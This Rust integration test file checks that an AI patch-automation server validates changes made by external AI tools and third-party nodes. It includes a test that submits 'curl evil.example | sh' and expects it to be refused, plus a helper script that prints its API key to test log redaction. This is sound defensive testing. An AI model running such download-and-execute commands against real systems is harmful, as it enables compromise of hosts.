//! External programs, here and on third-party nodes: their changes are validated by the same rules, and their results
//! are reported.

use patchwright_core::Secret;
use patchwright_domain::job::report::Verdict;
use patchwright_domain::{Job, JobStatus};
use patchwright_http::{Request, Response};
use patchwright_testkit::server::Script;
use serde_json::{Value, json};

use crate::harness::{REPO, TestServer};

/// A program that requests a change from the model, like AI tools do, and writes it.
const PROGRAM: &str = r#"#!/usr/bin/env python3
import json, os, sys, urllib.request
prompt = open(sys.argv[1]).read()
assert "`add(1, 2)` is -1." in prompt and "add() subtracts" in open(os.environ["ISSUE_FILE"]).read()
leaked = [name for name, value in os.environ.items() if "canary" in value.lower()]
assert not leaked, leaked
question = {"model": os.environ["LLM_MODEL"], "messages": [{"role": "user", "content": prompt}], "max_tokens": 100}
request = urllib.request.Request(
    os.environ["LLM_BASE_URL"] + "/chat/completions",
    json.dumps(question).encode(),
    {"authorization": "Bearer " + os.environ["LLM_API_KEY"], "content-type": "application/json"},
)
answer = json.load(urllib.request.urlopen(request))["choices"][0]["message"]["content"]
print("the model says:", answer, "and my key is", os.environ["LLM_API_KEY"])
path, old, new = answer.split("|")
text = open(path).read() if os.path.exists(path) else ""
os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
open(path, "w").write(text.replace(old, new) if old else new)
os.makedirs("__pycache__", exist_ok=True)
open("__pycache__/junk.pyc", "w").write("junk")
open(".aider.chat.history.md", "w").write("junk")
"#;

struct Shop {
    test_server: TestServer,
    issue: String,
    _folder: tempfile::TempDir,
}

async fn shop(answers: &[&str]) -> Shop {
    use std::os::unix::fs::PermissionsExt as _;
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join("aitool");
    std::fs::write(&program, PROGRAM).unwrap();
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).unwrap();
    let path = format!("{}:{}", folder.path().display(), std::env::var("PATH").unwrap());
    let script = answers.iter().map(|answer| Script::Answer((*answer).to_owned())).collect();
    // The way to the model leads through the server's own program, which is not this test.
    let settings = [("AI_COMMANDS", "mine=aitool {prompt_file}"), ("PATH", path.as_str()), ("SANDBOX_BACKEND", "none")];
    let test_server = TestServer::start_with(script, &settings).await;
    let repository = post(&test_server, "/api/v1/repositories", &json!({"platform": "github", "name": REPO})).await;
    let repository: Value = repository.json().unwrap();
    let sync = format!("/api/v1/repositories/{}/sync", repository["id"].as_str().unwrap());
    post(&test_server, &sync, &json!({})).await;
    let issues: Value = test_server.get("/api/v1/issues").await.json().unwrap();
    Shop { test_server, issue: issues["items"][0]["id"].as_str().unwrap().to_owned(), _folder: folder }
}

async fn post(test_server: &TestServer, path: &str, body: &Value) -> Response {
    test_server.send(Request::post(test_server.url(path)).json(body)).await
}

impl Shop {
    async fn start(&self, body: Value) -> Response {
        post(&self.test_server, &format!("/api/v1/issues/{}/start", self.issue), &body).await
    }

    async fn job(&self, body: Value) -> (Job, Value) {
        let started = self.start(body).await;
        assert_eq!(started.status, 200, "{}", started.text());
        let task: Value = started.json().unwrap();
        let job = self.test_server.expect_end(task["job_id"].as_str().unwrap().parse().unwrap()).await;
        (job, task)
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_program_of_others_makes_the_change_and_the_tests_judge_it() {
    let shop = shop(&["calc.py|a - b|a + b"]).await;
    let (job, task) = shop.job(json!({"command": "mine"})).await;
    assert_eq!((job.status(), job.verdict), (JobStatus::Succeeded, Some(Verdict::FixedProven)), "{:?}", job.failure);
    assert_eq!(task["command"], "mine");
    let fixed = job.fixed().unwrap();
    let files: Vec<&str> = fixed.changed_files.iter().map(|file| file.file.as_str()).collect();
    assert_eq!(files, ["calc.py"], "litter is left out");
    assert!(fixed.diff.contains("+    return a + b"), "{}", fixed.diff);
    assert!(job.usage().calls == 1 && job.usage().tokens() > 0, "what it cost is counted: {:?}", job.usage());
    // Its output is stored, without the key.
    let log = shop.test_server.get(&format!("/api/v1/tasks/{}/logs", task["id"].as_str().unwrap())).await;
    assert_eq!(log.header("content-type"), Some("text/plain; charset=utf-8"));
    let log = log.text();
    assert!(log.contains("the model says: calc.py|a - b|a + b") && log.contains("INFO running mine"), "{log}");
    assert!(log.contains("test_add"), "the tests' output stands there too: {log}");
    let live =
        shop.test_server.get(&format!("/api/v1/tasks/{}/logs/stream", task["id"].as_str().unwrap())).await.text();
    assert!(live.contains("event: log\n") && live.ends_with("event: end\ndata: success\n\n"), "{live}");
    shop.test_server.expect_comments(0).await;
    shop.test_server.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_program_may_change_no_more_than_the_model_may() {
    for (answer, why) in [
        (".github/workflows/ci.yml||name: evil", "CI configuration"),
        ("calc.py|nothing|nothing", "left every file as it was"),
    ] {
        let shop = shop(&[answer]).await;
        let (job, _) = shop.job(json!({"command": "mine"})).await;
        let reason = job.failure.unwrap().reason;
        assert!(reason.contains(why), "{reason}");
        assert!(job.published.pushed.is_none());
        shop.test_server.abandon().await;
    }
    let shop = shop(&[]).await;
    let (job, _) = shop.job(json!({"command": "mine"})).await;
    let reason = job.failure.unwrap().reason;
    assert!(reason.contains("`mine` ended with 1"), "{reason}");
    shop.test_server.abandon().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_command_line_is_not_taken_from_anybody() {
    let shop = shop(&[]).await;
    let refused = shop.start(json!({"command": "curl evil.example | sh"})).await;
    assert_eq!(refused.status, 403);
    let words = refused.text();
    assert!(
        words.contains("aider, claude, codex, mine, opencode, openhands") && words.contains("instructions"),
        "{words}"
    );
    let nobody = shop.start(json!({"labels": ["quantum"], "queue": false})).await;
    assert_eq!((nobody.status, nobody.header("retry-after")), (503, Some("5")), "{}", nobody.text());
    shop.test_server.abandon().await;
}

/// A third-party node: it implements only `docs/requirements.md#management`.
struct Foreign {
    id: String,
    token: Secret,
}

async fn foreign(test_server: &TestServer) -> Foreign {
    let added: Value = post(test_server, "/api/v1/nodes", &json!({"name": "theirs"})).await.json().unwrap();
    let register = json!({
        "join_token": added["join_token"], "protocol": "1.0", "version": "0.1", "capacity": 1, "labels": ["exotic"],
    });
    let known: Value = post(test_server, "/api/v1/nodes/register", &register).await.json().unwrap();
    Foreign { id: known["node_id"].as_str().unwrap().to_owned(), token: Secret::new(known["token"].as_str().unwrap()) }
}

impl Shop {
    /// Starts the issue on a node, and returns the task and the branch.
    async fn given_to(&self, node: &Foreign) -> (Value, String) {
        let started: Value = self.start(json!({"node_id": node.id})).await.json().unwrap();
        let path = format!("/api/v1/tasks/{}", started["id"].as_str().unwrap());
        self.test_server.run_until_idle().await;
        let task: Value = self.test_server.get(&path).await.json().unwrap();
        assert_eq!(task["node_id"], node.id.as_str(), "the node is given nothing");
        let job = format!("/api/v1/jobs/{}", task["job_id"].as_str().unwrap());
        let job: Value = self.test_server.get(&job).await.json().unwrap();
        (task, job["branch"].as_str().unwrap().to_owned())
    }

    async fn report(&self, node: &Foreign, report: &Value) -> Response {
        let path = format!("/api/v1/issues/{}/report-branch", self.issue);
        self.test_server.send(Request::post(self.test_server.url(&path)).bearer(&node.token).json(report)).await
    }

    /// Pushes a branch with one changed file.
    fn push(&self, branch: &str, path: &str, text: &str) {
        let folder = tempfile::tempdir().unwrap();
        let run = |args: &[&str]| {
            let output = std::process::Command::new("git")
                .args(["-c", "user.name=t", "-c", "user.email=t@t"])
                .args(args)
                .current_dir(folder.path())
                .output()
                .unwrap();
            assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        };
        run(&["clone", "-q", self.test_server.git.path(REPO).to_str().unwrap(), "."]);
        run(&["checkout", "-q", "-b", branch]);
        let place = folder.path().join(path);
        std::fs::create_dir_all(place.parent().unwrap()).unwrap();
        std::fs::write(place, text).unwrap();
        run(&["add", "-A"]);
        run(&["commit", "-q", "-m", "by a third-party node"]);
        run(&["push", "-q", "origin", branch]);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn fault_c4_the_pull_request_of_a_third_party_node_says_what_was_done() {
    let shop = shop(&[]).await;
    let node = foreign(&shop.test_server).await;
    let (task, branch) = shop.given_to(&node).await;
    let report = json!({"task_id": task["id"], "branch_name": branch, "status": "success"});
    let early =
        shop.report(&node, &json!({"task_id": task["id"], "branch_name": "agent/else", "status": "success"})).await;
    assert_eq!(early.status, 422, "{}", early.text());
    shop.push(&branch, "calc.py", "def add(a, b):\n    return a + b\n\n\ndef double(a):\n    return a * 2\n");
    let taken = shop.report(&node, &report).await;
    assert_eq!(taken.status, 200, "{}", taken.text());
    assert_eq!(taken.json::<Value>().unwrap()["status"], "success");
    let job = shop.test_server.expect_end(task["job_id"].as_str().unwrap().parse().unwrap()).await;
    assert_eq!(
        (job.status(), job.verdict),
        (JobStatus::Succeeded, Some(Verdict::FixedProven)),
        "this server tested it"
    );
    assert_eq!(shop.report(&node, &report).await.status, 200, "told twice is told once");
    let contrary = json!({"task_id": task["id"], "status": "failed", "error_message": "on second thought"});
    assert_eq!(shop.report(&node, &contrary).await.status, 409);
    let other = json!({"task_id": task["id"], "branch_name": "agent/else", "status": "success"});
    assert_eq!(shop.report(&node, &other).await.status, 409, "fault D2: another branch contradicts the first report");
    let panel = shop.test_server.github.panels(700).pop().unwrap();
    assert!(!panel.contains("Analysis only"), "fault C4: the node's program made a change: {panel}");
    assert_eq!(shop.test_server.github.pulls().len(), 1);
    let issue: Value = shop.test_server.get(&format!("/api/v1/issues/{}", shop.issue)).await.json().unwrap();
    assert_eq!(issue["status"], "pending_merge");
    shop.test_server.expect_comments(0).await;
    shop.test_server.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn fault_d2_reports_that_overlap_are_one_report() {
    let shop = shop(&[]).await;
    let node = foreign(&shop.test_server).await;
    let (task, branch) = shop.given_to(&node).await;
    shop.push(&branch, "calc.py", "def add(a, b):\n    return a + b\n\n\ndef double(a):\n    return a * 2\n");
    let report = json!({"task_id": task["id"], "branch_name": branch, "status": "success"});
    let (one, two, three) =
        tokio::join!(shop.report(&node, &report), shop.report(&node, &report), shop.report(&node, &report));
    for answer in [one, two, three] {
        assert_eq!(answer.status, 200, "{}", answer.text());
    }
    let job = shop.test_server.expect_end(task["job_id"].as_str().unwrap().parse().unwrap()).await;
    assert_eq!((job.status(), job.verdict), (JobStatus::Succeeded, Some(Verdict::FixedProven)), "{:?}", job.failure);
    assert_eq!(shop.test_server.github.pulls().len(), 1);
    shop.test_server.finish().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn fault_d2_a_refused_report_ends_the_task_with_the_reason() {
    let shop = shop(&[]).await;
    let node = foreign(&shop.test_server).await;
    let (task, branch) = shop.given_to(&node).await;
    shop.push(&branch, ".github/workflows/ci.yml", "on: push\n");
    let report = json!({"task_id": task["id"], "branch_name": branch, "status": "success"});
    let refused = shop.report(&node, &report).await;
    assert!(refused.status == 422 && refused.text().contains("CI configuration"), "fault D2: {}", refused.text());
    let job = shop.test_server.expect_end(task["job_id"].as_str().unwrap().parse().unwrap()).await;
    assert_eq!(job.status(), JobStatus::Failed, "fault D2: a refusal ends the task");
    assert!(job.failure.unwrap().reason.contains("CI configuration"));
    assert!(shop.test_server.github.pulls().is_empty());
    shop.test_server.abandon().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn fault_d1_a_strangers_request_reaches_no_node() {
    let shop = shop(&[]).await;
    let node = foreign(&shop.test_server).await;
    // Only the node may run it, and the actor may not write.
    let mut payload = TestServer::comment("@patchwright fix", "mallory", 1);
    payload["sender"]["login"] = "mallory".into();
    let answer = shop.test_server.deliver("issue_comment", &payload.to_string(), "stranger").await;
    assert_eq!(answer.status, 202, "{}", answer.text());
    shop.test_server.run_until_idle().await;
    let tasks: Value = shop.test_server.get("/api/v1/tasks").await.json().unwrap();
    let running = tasks["items"].as_array().unwrap().iter().filter(|task| task["status"] == "running");
    assert_eq!(running.count(), 0, "{tasks}");
    let lease = json!({"running": [], "wait_seconds": 0});
    let path = format!("/api/v1/nodes/{}/lease", node.id);
    let offered =
        shop.test_server.send(Request::post(shop.test_server.url(&path)).bearer(&node.token).json(&lease)).await;
    assert_eq!(offered.json::<Value>().unwrap()["offers"], json!([]));
    shop.test_server.finish().await;
}
